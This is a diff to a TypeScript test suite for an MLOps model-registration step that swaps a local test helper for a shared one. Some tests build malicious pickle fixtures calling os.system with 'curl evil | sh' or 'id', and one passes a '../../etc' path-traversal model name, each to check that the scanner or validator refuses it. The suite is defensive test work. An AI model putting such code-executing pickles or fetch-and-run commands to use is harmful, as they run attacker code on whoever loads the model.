@@ -5,7 +5,7 @@ import path from "node:path";
 import { describe, expect, it } from "vitest";
 import { runContextFromEnv, silentLogger } from "@mlops/core";
 import { LocalRegistry, openRegistry } from "@mlops/registry";
-import { memoryActionIO, pythonMissing, runInProcess, type MemoryActionIO } from "@mlops/testkit";
+import { memoryActionIO, pythonMissing, runMain } from "@mlops/testkit";
 import { bytes, callPickle, PROTO, STOP, uni } from "../../../packages/scan/test-support/builders.js";
 import { runRecord } from "../../../test/registry/fixtures/run-record.js";
 import { main } from "./main.js";
@@ -16,18 +16,6 @@ const pickledText = (text: string): Buffer => bytes(PROTO(2), uni(text), STOP);
 // register-model's main in-process over an in-memory StepIO and the local registry (the bundle
 // as the runner runs it, with a run record and a re-run attempt, and its lazily loaded scanner:
 // test/registry/register-model-local.test.ts).
-
-/**
- * main as the runner runs the step, in a test worker other files share: in the workspace, with
- * PATH, GITHUB_WORKSPACE and `env` as its whole environment. runInProcess puts back what is
- * process-wide (environment, directory, exit code, registered secrets, signal listeners) after it.
- */
-async function step(io: MemoryActionIO, dir: string, env: Record<string, string> = {}): Promise<void> {
-  const all = { PATH: process.env.PATH ?? "", GITHUB_WORKSPACE: dir, ...env };
-  const run = await runInProcess(() => main({ io, env: all }), { env: all, cwd: dir });
-  // The in-memory StepIO takes the step's failure: only an error main let out ends it otherwise.
-  if (run.exitCode !== 0) throw new Error(`main ended with exit code ${run.exitCode}\n${run.stderr}`);
-}
 
 function workspace(): string {
   const dir = mkdtempSync(path.join(os.tmpdir(), "mlops-register-main-"));
@@ -42,7 +30,7 @@ describe("register-model main", () => {
   it("registers the next version and writes its outputs and summary", async () => {
     const dir = workspace();
     const first = memoryActionIO({ ...inputs, metrics: "metrics.json", aliases: "staging" });
-    await step(first, dir);
+    await runMain(main, first, dir);
     expect(first.failed).toBeNull();
     expect(first.outputs).toEqual({
       version: "1",
@@ -53,11 +41,11 @@ describe("register-model main", () => {
     expect(first.summary).toMatch(/Registered weather version 1/);
     // The same bytes again are the same version; new bytes are the next one.
     const same = memoryActionIO(inputs);
-    await step(same, dir);
+    await runMain(main, same, dir);
     expect([same.outputs.version, same.outputs.created]).toEqual(["1", "false"]);
     writeFileSync(path.join(dir, "model.pkl"), pickledText("pickled forest, retrained"));
     const second = memoryActionIO(inputs);
-    await step(second, dir);
+    await runMain(main, second, dir);
     expect([second.outputs.version, second.outputs.created]).toEqual(["2", "true"]);
   });
 
@@ -65,11 +53,11 @@ describe("register-model main", () => {
     const dir = workspace();
     writeFileSync(path.join(dir, "mlops.yml"), "version: 1\nmodel: forecast\n");
     const io = memoryActionIO({ ...inputs, model: "", config: path.join(dir, "mlops.yml") });
-    await step(io, dir);
+    await runMain(main, io, dir);
     expect(io.outputs["model-uri"]).toBe("models:/forecast/1");
     // Without the config input or an mlops.yml in the workspace (the working directory).
     const missing = memoryActionIO({ ...inputs, model: "" });
-    await step(missing, workspace());
+    await runMain(main, missing, workspace());
     expect(missing.failed?.message).toMatch(/^input 'model' is required/);
   });
 
@@ -110,7 +98,7 @@ describe("register-model main", () => {
         );
         expect(made.stderr).toBe("");
         const io = memoryActionIO(inputs);
-        await step(io, dir);
+        await runMain(main, io, dir);
         expect(io.failed).toBeNull();
         expect(io.outputs.version).toBe("1");
         expect(io.summary).toMatch(/model scan: safe — \d+ globals, all on the allowlist/);
@@ -132,11 +120,11 @@ describe("register-model main", () => {
     it("a pickle that REDUCEs os.system fails the step, names the global and registers nothing", async () => {
       const dir = workspace();
       const fresh = memoryActionIO(inputs);
-      await step(fresh, dir);
+      await runMain(main, fresh, dir);
       expect(await versions(dir)).toEqual([1]);
       writeFileSync(path.join(dir, "model.pkl"), callPickle("os", "system", "curl evil | sh"));
       const io = memoryActionIO(inputs);
-      await step(io, dir);
+      await runMain(main, io, dir);
       expect(io.failed?.message).toMatch(
         /^model\.pkl: imports os\.system \(dangerous: .+\); registered nothing/,
       );
@@ -152,7 +140,7 @@ describe("register-model main", () => {
       const empty = workspace();
       writeFileSync(path.join(empty, "model.pkl"), callPickle("os", "system", "id"));
       const again = memoryActionIO(inputs);
-      await step(again, empty);
+      await runMain(main, again, empty);
       expect(again.failed?.message).toMatch(/^model\.pkl: imports os\.system/);
       expect(existsSync(path.join(empty, "reg"))).toBe(false);
     });
@@ -161,7 +149,7 @@ describe("register-model main", () => {
       const dir = workspace();
       writeFileSync(path.join(dir, "model.pkl"), callPickle("os", "system", "id"));
       const io = memoryActionIO({ ...inputs, "model-scan": "warn" });
-      await step(io, dir);
+      await runMain(main, io, dir);
       expect(io.failed).toBeNull();
       expect(io.outputs.version).toBe("1");
       expect(io.logger.entries.some((l) => l.level === "warning" && /os\.system/.test(l.message))).toBe(true);
@@ -169,11 +157,11 @@ describe("register-model main", () => {
         /model scan: dangerous — 1 global in 1 file; model\.pkl: imports os\.system/,
       );
       const off = memoryActionIO({ ...inputs, "model-scan": "off", aliases: "staging" });
-      await step(off, dir);
+      await runMain(main, off, dir);
       expect(off.failed).toBeNull();
       expect(off.logger.entries.some((l) => /model scan: off/.test(l.message))).toBe(true);
       const bad = memoryActionIO({ ...inputs, "model-scan": "maybe" });
-      await step(bad, dir);
+      await runMain(main, bad, dir);
       expect(bad.failed?.message).toBe(
         `input 'model-scan': expected one of 'fail', 'warn', 'off', found "maybe"`,
       );
@@ -183,11 +171,11 @@ describe("register-model main", () => {
       const dir = workspace();
       writeFileSync(path.join(dir, "model.pkl"), pickledText("x").subarray(0, 5));
       const io = memoryActionIO(inputs);
-      await step(io, dir);
+      await runMain(main, io, dir);
       expect(io.failed?.message).toMatch(/^model\.pkl: error: .*truncated.*; registered nothing/);
       writeFileSync(path.join(dir, "mlops.yml"), "version: 1\nregister:\n  model-scan: warn\n");
       const warned = memoryActionIO({ ...inputs, config: path.join(dir, "mlops.yml") });
-      await step(warned, dir);
+      await runMain(main, warned, dir);
       expect(warned.failed).toBeNull();
       expect(warned.outputs.version).toBe("1");
     });
@@ -203,7 +191,7 @@ describe("register-model main: mlops.yml, refusals", () => {
       "model: rain\nregistry: { backend: local, path: shared/registry }\nregister: { aliases: [candidate] }\n",
     );
     const io = memoryActionIO({ token: "ghs_unused", "model-path": "model.pkl" });
-    await step(io, dir); // mlops.yml is read from the working directory: the workspace, as on a runner
+    await runMain(main, io, dir); // mlops.yml is read from the working directory: the workspace, as on a runner
     expect(io.failed).toBeNull();
     expect(io.outputs).toMatchObject({ version: "1", "model-uri": "models:/rain/1" });
     const registry = new LocalRegistry({ root: path.join(dir, "shared/registry"), logger: silentLogger });
@@ -213,7 +201,7 @@ describe("register-model main: mlops.yml, refusals", () => {
   it("fails with a clear message on a hostile model name and stores nothing", async () => {
     const dir = workspace();
     const io = memoryActionIO({ ...inputs, model: "../../etc", "registry-path": ".mlops/registry" });
-    await step(io, dir);
+    await runMain(main, io, dir);
     expect(io.failed?.message).toContain('model name "../../etc" is not valid');
     expect(io.outputs).toEqual({});
     expect(existsSync(path.join(dir, ".mlops"))).toBe(false);
@@ -227,7 +215,7 @@ describe("register-model main: mlops.yml, refusals", () => {
       JSON.stringify(runRecord({ status: "failed", exitCode: 3 })),
     );
     const io = memoryActionIO({ model: "weather", "run-record": "out/run.json", registry: "local" });
-    await step(io, dir);
+    await runMain(main, io, dir);
     expect(io.failed?.message).toContain(
       "the training run failed (exit code 3); refusing to register its model",
     );
